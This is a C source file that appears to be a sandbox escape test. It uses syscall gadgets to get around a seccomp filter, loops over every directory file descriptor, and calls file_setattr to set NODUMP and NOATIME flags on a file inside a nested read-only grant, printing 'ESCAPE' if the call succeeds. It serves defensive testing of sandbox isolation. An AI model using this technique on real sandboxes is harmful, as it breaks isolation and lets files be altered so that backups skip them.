/* file_setattr and file_getattr (Linux 6.17, numbers 469 and 468): a
 * file's fsxattr flags read and changed by a directory fd and a path, as
 * the FS_IOC_FSGETXATTR/FSSETXATTR ioctls do on an fd. Landlock has no
 * right for them, and the seccomp filter refuses every other metadata
 * change by a path (chmod, chown, utimensat, setxattr; setxattrat and
 * removexattrat ENOSYS) because a directory fd of an outer read-write
 * grant reaches the files of a read-only grant nested in it (and a host
 * directory fd sent back into the session, attack relay_out, the host's
 * files). Tried around the handler (ld-preld's `syscall; ret`) with every
 * directory fd of the process (argv[2], the outer grant, opened through
 * libc first) and argv[1], a path below one of them (the nested read-only
 * grant's file): FS_XFLAG_NODUMP set (backups skip the
 * file) and FS_XFLAG_NOATIME; a set that succeeds prints ESCAPE. */
#include "attack.h"
#include "gadget_scan.h"
#include <stdint.h>
#include <sys/stat.h>

#ifndef SYS_file_getattr
#define SYS_file_getattr 468
#define SYS_file_setattr 469
#endif
#define FS_XFLAG_NOATIME 0x00000040
#define FS_XFLAG_NODUMP 0x00000080

struct file_attr {
    uint64_t fa_xflags;
    uint32_t fa_extsize, fa_nextents, fa_projid, fa_cowextsize;
};

static unsigned long G;
static long g6(long n, long a, long b, long c, long d, long e) { return call_gadget5(G, n, a, b, c, d, e); }

int main(int argc, char **argv) {
    if (argc < 2) { fprintf(stderr, "usage: file_setattr RELPATH [OUTER]\n"); return 2; }
    /* The outer grant's directory, handed out by the server (the process
     * resolves nothing itself beneath a grant holding a weaker one). */
    if (argc > 2) printf("libc open OUT: fd %ld\n", lc(open(argv[2], O_RDONLY | O_DIRECTORY)));
    find_gadgets();
    if (!ncand) { printf("no gadget: nothing to try\n"); return 0; }
    G = cands[0];
    int dirs = 0;
    for (long fd = 0; fd < 65536; fd++) {
        struct stat st;
        if (g6(SYS_fstat, fd, (long)&st, 0, 0, 0) < 0 || !S_ISDIR(st.st_mode)) continue;
        dirs++;
        struct file_attr a = {0};
        long r = g6(SYS_file_getattr, fd, (long)argv[1], (long)&a, sizeof a, 0);
        if (r < 0) {
            printf("file_getattr(dir fd %ld, RELPATH): %s\n", fd, strerror((int)-r));
            continue;
        }
        printf("file_getattr(dir fd %ld, RELPATH): xflags %#llx\n", fd, (unsigned long long)a.fa_xflags);
        a.fa_xflags |= FS_XFLAG_NODUMP | FS_XFLAG_NOATIME;
        r = g6(SYS_file_setattr, fd, (long)argv[1], (long)&a, sizeof a, 0);
        printf("file_setattr(dir fd %ld, RELPATH, NODUMP|NOATIME): %s\n", fd, r < 0 ? strerror((int)-r) : "set ESCAPE: a read-only grant's file's flags changed by its path");
    }
    printf("directory fds: %d\n", dirs);
    fflush(stdout);
    return 0;
}
